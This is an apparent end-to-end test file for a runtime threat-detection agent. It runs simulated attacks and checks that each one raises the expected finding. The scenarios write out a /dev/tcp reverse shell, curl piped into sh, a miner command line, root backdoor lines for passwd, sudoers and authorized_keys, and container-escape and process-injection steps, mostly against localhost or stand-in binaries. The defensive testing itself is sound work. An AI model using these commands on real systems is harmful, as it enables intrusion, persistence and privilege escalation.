@@ -1,0 +1,335 @@
+//go:build e2e
+
+package e2e
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// scenarios lists the attacks. Each performs a behaviour for real on this
+// machine (or in a real container) and names the findings it must raise.
+func scenarios(malware string) []scenario {
+	return []scenario{
+		{
+			name: "reverse shell from a renamed bash that redirects itself to a socket",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				shell := filepath.Join(e.work, "bin", "kworker-u8")
+				copyFile(t, "/bin/bash", shell, 0o755)
+				addr, out := tcpListener(t, "echo vigil-$((6*7)); exit\n")
+				host, port, _ := net.SplitHostPort(addr)
+				run(t, shell, "-c", fmt.Sprintf("%s -i >& /dev/tcp/%s/%s 0>&1", shell, host, port))
+				if got := <-out; !strings.Contains(got, "vigil-42") {
+					t.Logf("reverse shell output: %q", got)
+				}
+			},
+			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/kworker-u8"}}},
+		},
+		{
+			name: "reverse shell: a program dups a socket onto its standard streams and execs a renamed bash",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				shell := filepath.Join(e.work, "bin", "systemd-helper")
+				copyFile(t, "/bin/bash", shell, 0o755)
+				addr, out := tcpListener(t, "echo vigil-$((6*7)); exit\n")
+				run(t, e.attacker, "revshell", addr, shell, "-i")
+				<-out
+			},
+			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/systemd-helper", "/attacker"}}},
+		},
+		{
+			name:      "failed mount of /etc onto /tmp inside a container",
+			container: true,
+			run: func(t *testing.T, e *env, c *containerRun) {
+				c.exec(t, "/bin/attacker", "mount", "/etc", "/tmp")
+			},
+			wants: []want{{Type: "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory", Exe: []string{"/attacker"}, InContainer: true}},
+		},
+		{
+			name:      "container connects to the Docker socket",
+			container: true,
+			run: func(t *testing.T, e *env, c *containerRun) {
+				path := filepath.Join(c.rootfs, "var", "run", "docker.sock")
+				_ = os.MkdirAll(filepath.Dir(path), 0o755)
+				ln, err := net.Listen("unix", path)
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer ln.Close()
+				go func() {
+					if conn, err := ln.Accept(); err == nil {
+						conn.Close()
+					}
+				}()
+				c.exec(t, "/bin/attacker", "connect-unix", "/var/run/docker.sock")
+			},
+			wants: []want{{Type: "PrivilegeEscalation:Runtime/DockerSocketAccessed", Exe: []string{"/attacker"}, InContainer: true}},
+		},
+		{
+			name: "PTRACE_TRACEME in a child, then the parent peeks its memory",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, e.attacker, "traceme")
+			},
+			wants: []want{
+				{Type: "DefenseEvasion:Runtime/PtraceAntiDebugging", Exe: []string{"/attacker"}},
+				{Type: "DefenseEvasion:Runtime/ProcessInjection.Ptrace", Exe: []string{"/attacker"}},
+			},
+		},
+		{
+			name: "process_vm_writev into a child",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, e.attacker, "vmwrite")
+			},
+			wants: []want{{Type: "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite", Exe: []string{"/attacker"}}},
+		},
+		{
+			name: "write to another process's /proc/<pid>/mem",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, e.attacker, "procmem")
+			},
+			wants: []want{{Type: "DefenseEvasion:Runtime/ProcessInjection.Proc", Exe: []string{"/attacker"}}},
+		},
+		{
+			name: "execution from a memfd",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, e.attacker, "memfd-exec")
+			},
+			wants: []want{{Type: "DefenseEvasion:Runtime/FilelessExecution"}},
+		},
+		{
+			name: "execution of a deleted file",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, e.attacker, "deleted-exec")
+			},
+			wants: []want{{Type: "DefenseEvasion:Runtime/FilelessExecution"}},
+		},
+		{
+			name:      "binary dropped into a running container and executed",
+			container: true,
+			run: func(t *testing.T, e *env, c *containerRun) {
+				c.exec(t, "/bin/attacker", "drop-exec", "/tmp/.x/dropper")
+			},
+			wants: []want{{Type: "Execution:Runtime/NewBinaryExecuted", Exe: []string{"/tmp/.x/dropper"}, InContainer: true}},
+		},
+		{
+			name: "miner-like command line",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, e.attacker, "sleep", "0.1", "-o", "stratum+tcp://pool.vigil.test:3333", "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "--donate-level", "1")
+			},
+			wants: []want{{Type: "Impact:Runtime/CryptoMinerExecuted", Exe: []string{"/attacker"}}},
+		},
+		{
+			name: "DNS queries for GuardDuty's test domains",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				for _, name := range []string{"c2.guarddutyc2activityb.com", "crypto.guarddutyc2activityb.com",
+					"guarddutydgaactivity.com", "www.guarddutyphishingactivity.com", "supportxmr.com"} {
+					run(t, e.attacker, "dns", name, e.dns)
+				}
+			},
+			wants: []want{
+				{Type: "Backdoor:Runtime/C&CActivity.B!DNS", Exe: []string{"/attacker"}},
+				{Type: "CryptoCurrency:Runtime/BitcoinTool.B!DNS", Exe: []string{"/attacker"}},
+				{Type: "Trojan:Runtime/DGADomainRequest.C!DNS", Exe: []string{"/attacker"}},
+				{Type: "Trojan:Runtime/PhishingDomainRequest!DNS", Exe: []string{"/attacker"}},
+			},
+		},
+		{
+			name: "glibc resolver lookup (connect + sendmmsg) of a C&C domain",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				// getent resolves through /etc/resolv.conf; give it a
+				// network namespace whose resolv.conf names a stub inside it.
+				ns := fmt.Sprintf("vigil-e2e-%d", os.Getpid())
+				mustRun(t, "", "ip", "netns", "add", ns)
+				t.Cleanup(func() { run(t, "ip", "netns", "delete", ns); os.RemoveAll("/etc/netns/" + ns) })
+				_ = os.MkdirAll("/etc/netns/"+ns, 0o755)
+				writeFile(t, "/etc/netns/"+ns+"/resolv.conf", "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
+				mustRun(t, "", "ip", "-n", ns, "link", "set", "lo", "up")
+				run(t, "ip", "netns", "exec", ns, "getent", "hosts", "beacon.guarddutyc2activityb.com")
+			},
+			wants: []want{{Type: "Backdoor:Runtime/C&CActivity.B!DNS", Exe: []string{"/getent"}}},
+		},
+		{
+			name: "DNS answer rebinds a name to the instance metadata address",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, e.attacker, "dns", "app.rebind.vigil.test", e.dns)
+			},
+			wants: []want{{Type: "UnauthorizedAccess:Runtime/MetadataDNSRebind", Exe: []string{"/attacker"}}},
+		},
+		{
+			name: "kernel module load attempt",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, e.attacker, "modload")
+			},
+			wants: []want{{Type: "DefenseEvasion:Runtime/KernelModuleLoaded", Exe: []string{"/attacker"}}},
+		},
+		{
+			name: "userfaultfd",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, e.attacker, "userfaultfd")
+			},
+			wants: []want{{Type: "PrivilegeEscalation:Runtime/UserfaultfdUsage", Exe: []string{"/attacker"}}},
+		},
+		{
+			name: "unprivileged user gains root through an unusual setuid helper",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, e.attacker, "setuid-helper", filepath.Join(e.work, "bin", "suid-helper"), "65534")
+			},
+			wants: []want{{Type: "PrivilegeEscalation:Runtime/ElevationToRoot", Exe: []string{"/suid-helper"}}},
+		},
+		{
+			name:      "release_agent opened for write in a container's own cgroup mount",
+			container: true, privileged: true,
+			run: func(t *testing.T, e *env, c *containerRun) {
+				c.exec(t, "/bin/attacker", "release-agent", "/tmp/cgrp")
+			},
+			wants: []want{{Type: "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified", Exe: []string{"/attacker"}, InContainer: true}},
+		},
+		{
+			name:      "sensitive files written in a container",
+			container: true,
+			run: func(t *testing.T, e *env, c *containerRun) {
+				c.exec(t, "/bin/attacker", "write", "/etc/passwd", "toor:x:0:0::/root:/bin/sh")
+				c.exec(t, "/bin/attacker", "write", "/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIvigil e2e")
+				c.exec(t, "/bin/attacker", "write", "/etc/sudoers", "toor ALL=(ALL) NOPASSWD: ALL")
+			},
+			wants: []want{
+				{Type: "Persistence:Runtime/SensitiveFileModified", Exe: []string{"/attacker"}, InContainer: true},
+				{Type: "PrivilegeEscalation:Runtime/SensitiveFileModified", Exe: []string{"/attacker"}, InContainer: true},
+			},
+		},
+		{
+			name: "suspicious tools by name",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				nmap := filepath.Join(e.work, "bin", "nmap")
+				copyFile(t, "/bin/true", nmap, 0o755)
+				run(t, nmap, "-sS", "-p-", "127.0.0.1")
+				chisel := filepath.Join(e.work, "bin", "chisel")
+				copyFile(t, "/bin/true", chisel, 0o755)
+				run(t, chisel, "client", "127.0.0.1:8000", "R:socks")
+			},
+			wants: []want{
+				{Type: "Execution:Runtime/SuspiciousTool", Exe: []string{"/nmap"}},
+				{Type: "Execution:Runtime/SuspiciousTool", Exe: []string{"/chisel"}},
+			},
+		},
+		{
+			name: "download piped into a shell",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				u := serveHTTP(t, "echo downloaded\n")
+				run(t, "/bin/sh", "-c", "curl -fsS "+u+"/install.sh | sh")
+			},
+			wants: []want{{Type: "Execution:Runtime/SuspiciousCommand", Exe: []string{"/sh", "/dash", "/bash"}}},
+		},
+		{
+			name: "known malicious executable by SHA-256",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				run(t, malware)
+			},
+			wants: []want{{Type: "Execution:Runtime/MaliciousFileExecuted", Exe: []string{"/implant"}}},
+		},
+		{
+			name: "network service starts an interactive shell",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				ln, err := net.Listen("tcp", "127.0.0.1:0")
+				if err != nil {
+					t.Fatal(err)
+				}
+				addr := ln.Addr().String()
+				ln.Close()
+				done := make(chan string, 1)
+				go func() { done <- run(t, e.attacker, "listen-spawn", addr, "/bin/sh") }()
+				var conn net.Conn
+				for i := 0; i < 50; i++ {
+					if conn, err = net.Dial("tcp", addr); err == nil {
+						break
+					}
+					time.Sleep(50 * time.Millisecond)
+				}
+				if conn == nil {
+					t.Fatalf("connect to %s: %v", addr, err)
+				}
+				fmt.Fprintf(conn, "echo hi; exit\n")
+				time.Sleep(300 * time.Millisecond)
+				conn.Close()
+				<-done
+			},
+			wants: []want{{Type: "Execution:Runtime/SuspiciousShellCreated", Exe: []string{"/sh", "/dash", "/bash"}}},
+		},
+		{
+			name: "firewall flushed",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				// A stand-in named iptables: the command line is the behaviour,
+				// and the host's real firewall stays as it is.
+				fake := filepath.Join(e.work, "sbin", "iptables")
+				copyFile(t, "/bin/true", fake, 0o755)
+				run(t, fake, "-F")
+			},
+			wants: []want{{Type: "DefenseEvasion:Runtime/SuspiciousCommand", Exe: []string{"/iptables"}}},
+		},
+		{
+			name: "program started with LD_PRELOAD",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				lib := filepath.Join(e.work, "lib", "libprocesshider.so")
+				copyFile(t, "/bin/true", lib, 0o644)
+				run(t, e.attacker, "ld-preload-run", lib, "/bin/true")
+			},
+			wants: []want{{Type: "DefenseEvasion:Runtime/SuspiciousCommand", Exe: []string{"/true"}}},
+		},
+		{
+			name:      "new user added in a container",
+			container: true,
+			run: func(t *testing.T, e *env, c *containerRun) {
+				c.exec(t, "/bin/adduser", "-D", "-H", "backdoor")
+			},
+			wants: []want{{Type: "Persistence:Runtime/SuspiciousCommand", InContainer: true}},
+		},
+	}
+}
+
+// benign runs everyday work: building Go code, git, tar, a web server under
+// load, cron-style shell loops and package queries.
+func benign(t *testing.T, e *env) {
+	dir := t.TempDir()
+	writeFile(t, filepath.Join(dir, "go.mod"), "module example.com/hello\n\ngo 1.22\n")
+	writeFile(t, filepath.Join(dir, "main.go"), "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hello\") }\n")
+	mustRun(t, dir, "go", "build", "-o", filepath.Join(dir, "hello"), ".")
+	mustRun(t, dir, filepath.Join(dir, "hello"))
+
+	mustRun(t, dir, "git", "init", "-q", "repo")
+	repo := filepath.Join(dir, "repo")
+	writeFile(t, filepath.Join(repo, "README"), "hello\n")
+	mustRun(t, repo, "git", "-c", "user.name=ci", "-c", "user.email=ci@example.com", "add", ".")
+	mustRun(t, repo, "git", "-c", "user.name=ci", "-c", "user.email=ci@example.com", "commit", "-qm", "first")
+	mustRun(t, repo, "git", "checkout", "-qb", "feature")
+	mustRun(t, repo, "git", "log", "--oneline")
+	mustRun(t, repo, "git", "status", "--short")
+
+	mustRun(t, dir, "tar", "czf", "repo.tgz", "repo")
+	_ = os.MkdirAll(filepath.Join(dir, "x"), 0o755)
+	mustRun(t, dir, "tar", "xzf", "repo.tgz", "-C", "x")
+
+	// A web server under load: python's http.server, fetched 200 times.
+	port := freePort(t)
+	srv := startDaemon(t, "webserver", dir, nil, "python3", "-m", "http.server", "--bind", "127.0.0.1", fmt.Sprint(port), "--directory", dir)
+	waitFor(t, "web server", 20*time.Second, func() bool {
+		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
+		if err == nil {
+			c.Close()
+		}
+		return err == nil
+	})
+	mustRun(t, dir, "/bin/sh", "-c", fmt.Sprintf("for i in $(seq 200); do curl -fsS -o /dev/null http://127.0.0.1:%d/repo.tgz; done", port))
+	_ = srv
+
+	// Cron-style loops.
+	mustRun(t, dir, "/bin/sh", "-c", "for i in $(seq 30); do date >> "+filepath.Join(dir, "cron.log")+"; ls / > /dev/null; sleep 0.02; done")
+
+	// Package queries.
+	mustRun(t, dir, "dpkg", "-l")
+	mustRun(t, dir, "dpkg", "-S", "/bin/ls")
+	mustRun(t, dir, "apt-cache", "policy", "bash")
+}
